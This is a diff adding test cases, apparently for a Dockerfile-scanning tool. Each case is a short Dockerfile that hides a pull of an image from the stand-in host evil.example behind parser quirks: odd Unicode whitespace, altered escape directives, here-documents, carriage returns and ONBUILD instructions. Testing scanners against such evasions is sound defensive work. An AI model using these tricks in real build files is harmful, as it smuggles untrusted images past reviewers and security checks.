@@ -116,6 +116,62 @@ const HIDING: readonly {
     name: 'behind an argument that loses its value',
     text: 'ARG A=good\nARG A\nFROM ${A:-evil.example/x}',
   },
+  {
+    name: 'behind a comment that is none to Go, for U+FEFF is no space there',
+    text: 'FROM good\nRUN true \\\n\uFEFF# y\nFROM evil.example/x',
+  },
+  {
+    name: 'behind an empty line that is none to Go',
+    text: 'FROM good\nRUN true \\\n\uFEFF\nFROM evil.example/x',
+  },
+  {
+    name: 'by a stage behind a line that is empty to Go alone',
+    text: 'FROM good\nRUN true \\\n\u0085\nFROM good AS evil.example\nFROM evil.example',
+  },
+  {
+    name: 'behind an escape that is one by a space that Go does not have',
+    text: '#\uFEFFescape=`\nFROM good\nRUN true # `\nFROM evil.example/x',
+  },
+  {
+    name: 'behind an escape that is one by a space before its sign',
+    text: '# escape\u00A0=`\nFROM good\nRUN true # `\nFROM evil.example/x',
+  },
+  {
+    name: 'behind an escape that is one by a space that Go alone has',
+    text: '#\u0085escape=`\nFROM good\nRUN dir c:\\\nFROM evil.example/x',
+  },
+  {
+    name: 'behind an escape after a directive that only JavaScript ends early',
+    text: '# check=x\u2028y\n# escape=`\nFROM good\nRUN dir c:\\\nFROM evil.example/x',
+  },
+  {
+    name: 'behind a here-document whose name ends with a space that Go does not have',
+    text: 'FROM good\nRUN cat <<E\uFEFF\nE\uFEFF\nFROM evil.example/x\nRUN echo \\\nE',
+  },
+  {
+    name: 'behind a list that BuildKit before 0.15 took for the whole command',
+    text: 'FROM good\nRUN ["true"] <<foo\nFROM evil.example/x\nRUN echo \\\nfoo',
+  },
+  {
+    name: 'in a here-document for builders that know none',
+    text: 'FROM good\nCOPY <<EOF /x\nFROM evil.example/x\nRUN true \\\nEOF',
+  },
+  {
+    name: 'in a here-document that ends with a word that is an instruction',
+    text: 'FROM good\nRUN <<CMD\nCOPY --from=evil.example/x / /\nCMD',
+  },
+  {
+    name: 'behind a return that only some builders take for a part of the line',
+    text: 'FROM good\nRUN true \\\r\r\nFROM evil.example/x',
+  },
+  {
+    name: 'in what a stage leaves to one that is built from it',
+    text: 'FROM good AS a\nONBUILD COPY --from=evil.example/x / /\nFROM A',
+  },
+  {
+    name: 'in a mount that a stage leaves to one that is built from it',
+    text: 'FROM good AS a\nFROM good AS b\nONBUILD RUN --mount=type=bind,from=evil.example/x true\nFROM b',
+  },
 ];
 
 const NUMBERED: readonly { readonly name: string; readonly text: string }[] = [
